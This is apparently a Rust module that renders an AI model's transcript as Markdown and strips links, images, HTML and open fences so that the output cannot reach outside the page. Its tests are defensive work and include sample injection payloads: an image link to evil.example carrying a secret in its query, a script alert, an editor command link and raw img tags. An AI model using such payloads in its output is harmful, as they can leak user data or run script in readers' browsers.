//! The whole transcript as a Markdown document.
//!
//! The model's Markdown stays Markdown, but nothing in it may reach out of the document: images and links
//! become their text with the target shown, HTML is shown as text, link definitions go, and an open fence is
//! closed so that it cannot swallow what follows.

use std::ops::Range;

use pulldown_cmark::{CowStr, Event as Markdown, LinkType, Options, Parser, Tag, TagEnd};

use super::{Progress, fence, outcome, size, with_failed_line};
use crate::{Block, Cleaner, Code, Ending, Transcript, WrittenFile};

/// The Markdown that editors and GitHub agree on.
const DIALECT: Options =
    Options::ENABLE_TABLES.union(Options::ENABLE_STRIKETHROUGH).union(Options::ENABLE_TASKLISTS);

/// A longer text, in bytes, is shown as it is: nobody reads it as Markdown, and to make it harmless would take seconds.
const LONGEST_MARKDOWN: usize = 500_000;

/// Draws the document. `heading` says what it is about, `subtitle` in one line who answered and at what cost;
/// `charts` are the links of the images, in order.
#[must_use]
pub fn document(
    heading: &str,
    subtitle: &str,
    transcript: &Transcript,
    charts: &[String],
    ending: &Ending,
) -> String {
    let blocks = blocks(transcript, charts);
    let end = super::document::ending(&Progress::Ended(ending.clone()));
    page(heading, subtitle, blocks, end)
}

/// What it is about as a heading, who answers, the sections of the answer, and how it ended.
pub(super) fn page(heading: &str, subtitle: &str, blocks: Vec<String>, end: String) -> String {
    let heading = escape(heading.lines().next().unwrap_or_default());
    let heading = if heading.trim().is_empty() { "Answer" } else { heading.trim() };
    let sections =
        [format!("# {heading}\n"), format!("{}\n", escape(subtitle))].into_iter().chain(blocks).chain([end]);
    sections.filter(|section| !section.trim().is_empty()).collect::<Vec<_>>().join("\n")
}

/// Every block of an answer as Markdown.
pub(super) fn blocks(transcript: &Transcript, charts: &[String]) -> Vec<String> {
    let mut charts = charts.iter().enumerate();
    let mut ran = None;
    let drawn = transcript.blocks().iter().map(|block| match block {
        Block::Text(text) => answer(text),
        Block::Thought(text) => quoted("Thinking", text),
        Block::Code(code) => {
            ran = Some(code);
            program(code)
        }
        Block::Output(output) if output.output.is_empty() => {
            format!("Output ({}): nothing printed\n", escape(outcome(&output.outcome)))
        }
        Block::Output(output) => {
            let outcome = escape(outcome(&output.outcome));
            let printed = format!("Output ({outcome}):\n\n{}", fence("text", &output.output));
            with_failed_line(printed, ran, output)
        }
        Block::File(_) => String::new(),
        Block::Image(_) => charts.next().map(|(index, link)| chart(index + 1, link)).unwrap_or_default(),
    });
    drawn.chain([files(transcript)]).collect()
}

/// A program as it stands in the document.
pub(super) fn program(code: &Code) -> String {
    fence(language(&code.language), &code.code)
}

/// The image of a chart.
pub(super) fn chart(number: usize, link: &str) -> String {
    format!("![chart {number}](<{}>)\n", target(link))
}

/// The files that programs left, which are gone unless the person saves them.
pub(super) fn files(transcript: &Transcript) -> String {
    const NAMED: usize = 20;
    let told =
        |file: &WrittenFile| format!("{} ({})", escape_unlinked(&file.name), size(file.bytes.len() as u64));
    let mut named: Vec<String> = transcript.files().take(NAMED).map(told).collect();
    let more = transcript.files().count() - named.len();
    named.extend((more > 0).then(|| format!("{more} more")));
    if named.is_empty() { String::new() } else { format!("Files: {}\n", named.join(", ")) }
}

/// The language of a code block: a renderer may draw others than the one that runs.
fn language(name: &str) -> &'static str {
    if name == "PYTHON" { "python" } else { "text" }
}

/// The model's Markdown, made harmless. What stays harmful after a few passes — one edit can uncover what
/// another parse sees as a link — is shown as plain text.
#[must_use]
pub fn answer(text: &str) -> String {
    if text.len() > LONGEST_MARKDOWN {
        return fence("text", text);
    }
    let mut safe = text.to_owned();
    for _ in 0..4 {
        safe = closed(&without_references(&safe));
        if is_harmless(&safe) {
            let end = if safe.ends_with('\n') { "" } else { "\n" };
            return safe + end;
        }
    }
    fence("text", text)
}

fn is_harmless(text: &str) -> bool {
    let mut parser = Parser::new_ext(text, DIALECT);
    parser.reference_definitions().iter().next().is_none()
        && parser.all(|event| {
            !matches!(
                event,
                Markdown::Start(Tag::Link { .. } | Tag::Image { .. })
                    | Markdown::Html(_)
                    | Markdown::InlineHtml(_)
            )
        })
}

/// Replaces what reaches out of the document, and keeps every other byte as the model wrote it.
fn without_references(text: &str) -> String {
    let parser = Parser::new_ext(text, DIALECT);
    let mut edits: Vec<(Range<usize>, String)> = parser
        .reference_definitions()
        .iter()
        .map(|(_, definition)| (definition.span.clone(), String::new()))
        .collect();
    // The outermost link or image that is open: its range, target, label so far, and how deep we are in it.
    let mut open: Option<(Range<usize>, String, String)> = None;
    let mut depth = 0_usize;
    let mut in_code = false;
    // Where the last text ended: a backslash between two texts is an escape, and not text itself.
    let mut text_end = 0_usize;
    for (event, range) in parser.into_offset_iter() {
        match event {
            Markdown::Start(Tag::Link { link_type, dest_url, .. }) if depth == 0 => {
                depth = 1;
                open = Some((range, shown_target(link_type, &dest_url), String::new()));
            }
            Markdown::Start(Tag::Image { dest_url, .. }) if depth == 0 => {
                depth = 1;
                open = Some((range, format!(" (image not loaded: {})", escape(&dest_url)), String::new()));
            }
            Markdown::Start(Tag::Link { .. } | Tag::Image { .. }) => depth += 1,
            Markdown::End(TagEnd::Link | TagEnd::Image) => {
                depth -= 1;
                if depth == 0
                    && let Some((range, target, label)) = open.take()
                {
                    edits.push((range, format!("{}{target}", escape(&label))));
                }
            }
            Markdown::Start(Tag::CodeBlock(_)) => in_code = true,
            Markdown::End(TagEnd::CodeBlock) => in_code = false,
            Markdown::Text(label) | Markdown::Code(label) if depth > 0 => push_label(&mut open, &label),
            Markdown::SoftBreak | Markdown::HardBreak if depth > 0 => {
                push_label(&mut open, &CowStr::Borrowed(" "));
            }
            Markdown::Html(_) | Markdown::InlineHtml(_) if depth == 0 => {
                let lines: Vec<String> = text[range.clone()].split('\n').map(escape).collect();
                edits.push((range, lines.join("\n")));
            }
            Markdown::Text(_) if depth == 0 && !in_code => {
                let is_escaped = text_end != range.start && text[..range.start].ends_with('\\');
                text_end = range.end;
                edits.push((range.clone(), disarmed(&text[range], is_escaped)));
            }
            _ => {}
        }
    }
    apply(text, edits)
}

fn push_label(open: &mut Option<(Range<usize>, String, String)>, label: &CowStr<'_>) {
    if let Some((_, _, text)) = open {
        text.push_str(label);
    }
}

fn shown_target(link_type: LinkType, target: &str) -> String {
    match link_type {
        // The label of `<https://…>` is its target.
        LinkType::Autolink | LinkType::Email => String::new(),
        _ => format!(" ({})", escape(target)),
    }
}

/// Applies edits to a text; an edit inside an earlier one is part of it already.
fn apply(text: &str, mut edits: Vec<(Range<usize>, String)>) -> String {
    edits.sort_by_key(|(range, _)| (range.start, std::cmp::Reverse(range.end)));
    let mut result = String::with_capacity(text.len());
    let mut at = 0;
    for (range, replacement) in edits {
        if range.start < at {
            continue;
        }
        result.push_str(&text[at..range.start]);
        result.push_str(&replacement);
        at = range.end;
    }
    result + &text[at..]
}

/// Text in which no link, image, definition or tag can begin, whatever comes to stand around it. The first
/// character may be escaped already.
fn disarmed(text: &str, is_escaped: bool) -> String {
    let mut safe = String::with_capacity(text.len());
    for (index, character) in text.char_indices() {
        match character {
            _ if index == 0 && is_escaped => safe.push(character),
            '[' | ']' => safe.extend(['\\', character]),
            '<' => safe.push_str("&lt;"),
            _ => safe.push(character),
        }
    }
    safe
}

/// Closes a fence that the model left open.
fn closed(text: &str) -> String {
    const PROBE: &str = "\n\nprobe";
    let probed = format!("{text}{PROBE}");
    let open = Parser::new_ext(&probed, DIALECT).into_offset_iter().find_map(|(event, range)| {
        let is_open = matches!(event, Markdown::Start(Tag::CodeBlock(_))) && range.end == probed.len();
        is_open.then_some(range.start)
    });
    let Some(start) = open else {
        return text.to_owned();
    };
    let fence = text[start..].trim_start();
    let mark = fence.chars().next().filter(|mark| matches!(mark, '`' | '~')).unwrap_or('`');
    let length = fence.chars().take_while(|character| *character == mark).count();
    format!("{text}\n{}\n", mark.to_string().repeat(length))
}

/// Text as text: nothing in it is Markdown.
pub(super) fn escape(text: &str) -> String {
    let mut escaped = String::with_capacity(text.len());
    for character in Cleaner::clean(text).chars() {
        match character {
            '<' => escaped.push_str("&lt;"),
            '\n' => escaped.push(' '),
            '\\' | '`' | '*' | '_' | '[' | ']' | '!' | '#' | '~' | '|' | '&' => {
                escaped.extend(['\\', character]);
            }
            other => escaped.push(other),
        }
    }
    escaped
}

/// The same where a reader expects no link: some renderers make links of what looks like one.
pub(super) fn escape_unlinked(text: &str) -> String {
    escape(text)
        .replace("://", "\\://")
        .replace('@', "\\@")
        .replace("www.", "www\\.")
        .replace("WWW.", "WWW\\.")
}

/// A link target in angle brackets.
fn target(link: &str) -> String {
    link.replace('%', "%25").replace('<', "%3C").replace('>', "%3E").replace('\\', "%5C").replace('\n', "%0A")
}

pub(super) fn quoted(heading: &str, text: &str) -> String {
    let lines = text.trim().lines().map(|line| format!("> {}\n", escape(line)));
    format!("> **{}**\n>\n{}", escape(heading), lines.collect::<String>())
}

#[cfg(test)]
mod tests {
    use insta::assert_snapshot;
    use proptest::prelude::*;
    use pulldown_cmark::{Event as Markdown, Parser, Tag};

    use super::{DIALECT, answer, document};
    use crate::{Ending, Failure, Transcript};

    #[test]
    fn nothing_reaches_out_of_an_answer() {
        let hostile = "\
Total **13**, see [the docs](https://example.com/a_b \"title\") and ![chart](https://evil.example/p.png?q=secret).
[run me](command:workbench.action.quit) <https://example.com> <img src=https://evil.example/x>
[ref][1] ![img][1] [![nested](https://a.example)](https://b.example)

<script>alert(1)</script>

[1]: https://evil.example/ref

`[not](a link)` stays code.
";
        assert_snapshot!(answer(hostile), @r"
        Total **13**, see the docs (https://example.com/a\_b) and chart (image not loaded: https://evil.example/p.png?q=secret).
        run me (command:workbench.action.quit) https://example.com &lt;img src=https://evil.example/x>
        ref (https://evil.example/ref) img (image not loaded: https://evil.example/ref) nested (https://b.example)

        &lt;script>alert(1)&lt;/script>



        `[not](a link)` stays code.
        ");
    }

    #[test]
    fn an_open_fence_cannot_swallow_what_follows() {
        assert_eq!(answer("~~~~py\nx = 1"), "~~~~py\nx = 1\n~~~~\n");
        assert_eq!(answer("```py\nx\n```"), "```py\nx\n```\n");
    }

    #[test]
    fn the_document_tells_the_whole_ask() {
        let mut transcript = Transcript::default();
        for response in [
            r#"{"candidates":[{"content":{"parts":[{"text":"Thinking about it.","thought":true},{"text":"I'll add them.\n"},
                {"executableCode":{"language":"PYTHON","code":"print(4+9)\n"}}]}}]}"#,
            r#"{"candidates":[{"content":{"parts":[{"codeExecutionResult":{"outcome":"OUTCOME_OK","output":"13\n"}},
                {"inlineData":{"mimeType":"image/png","data":"iVBORw0KGgo="}},{"text":"**13** units."}]},"finishReason":"MAX_TOKENS"}]}"#,
        ] {
            transcript.push(serde_json::from_str(response).expect("a response"));
        }
        let drawn = document(
            "How *many*?\n",
            "gemini · 1 s",
            &transcript,
            &["images/chart 1.png".to_owned()],
            &transcript.ending(),
        );
        assert_snapshot!(drawn, @r"
        # How \*many\*?

        gemini · 1 s

        > **Thinking**
        >
        > Thinking about it.

        I'll add them.

        ```python
        print(4+9)
        ```

        Output (ok):

        ```text
        13
        ```

        ![chart 1](<images/chart 1.png>)

        **13** units.

        > **The answer ends early**
        >
        > MAX\_TOKENS
        ");
    }

    #[test]
    fn no_field_of_a_response_can_write_markdown() {
        let mut transcript = Transcript::default();
        let hostile = r#"{"modelVersion":"m\n# h","candidates":[{"finishReason":"x\n![x](y)","content":{"parts":[
            {"executableCode":{"language":"MERMAID\n```\n# h","code":"graph"}},
            {"codeExecutionResult":{"outcome":"![x](https://evil.example/b.png)\n\n```","output":"```\n<img src=x>"}}]}}]}"#;
        transcript.push(serde_json::from_str(hostile).expect("a response"));
        let drawn = document("q\u{1b}[31mred\u{202e}\n# h", "a\nb", &transcript, &[], &transcript.ending());
        assert_snapshot!(drawn, @r"
        # qred

        a b

        ```text
        graph
        ```

        Output (\!\[x\](https://evil.example/b.png)):

        ````text
        ```
        <img src=x>
        ````

        > **The answer ends early**
        >
        > x
        ");
    }

    #[test]
    fn a_failure_ends_the_document() {
        let failure = Ending::Failed(Failure::new("Quota <used up>", "15 a minute.", "Wait 21 s."));
        assert_snapshot!(document("q", "", &Transcript::default(), &[], &failure), @"
        # q

        > **Quota &lt;used up>**
        >
        > 15 a minute. Wait 21 s.
        ");
    }

    proptest! {
        #[test]
        fn no_image_link_or_html_survives_any_text(text in r"([!\[\]()<>`~\\#\n a:/]|https://x|\[1\]: |!\[|\]\(|<img src=x>|<div>|<!--|\[x\]\(command:y\)|\\\\|```){0,30}") {
            let safe = answer(&text);
            // Read together with another block, so that a definition or an open fence would show.
            let page = format!("{safe}\n[1]\n\n![1]\n\n[a][1]\n");
            for event in Parser::new_ext(&page, DIALECT) {
                let reaches_out = matches!(
                    event,
                    Markdown::Start(Tag::Link { .. } | Tag::Image { .. })
                        | Markdown::Html(_)
                        | Markdown::InlineHtml(_)
                );
                prop_assert!(!reaches_out, "{event:?} in {page:?}");
            }
        }
    }
}
